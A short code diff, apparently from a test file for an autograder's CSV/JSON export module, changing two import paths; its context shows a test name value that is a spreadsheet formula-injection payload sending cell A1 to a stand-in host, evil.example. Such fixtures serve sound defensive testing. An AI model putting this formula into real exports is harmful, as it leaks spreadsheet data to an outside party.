@@ -9,8 +9,8 @@ from __future__ import annotations
 import csv
 import json
 
-from autograder.grading.exports import write_exports
-from autograder.grading.results import ResultStore
+from autograder.grading.parent.exports import write_exports
+from autograder.grading.parent.results import ResultStore
 
 NAMES = {
     "eve": '=HYPERLINK("http://evil.example/?"&A1,"click")',
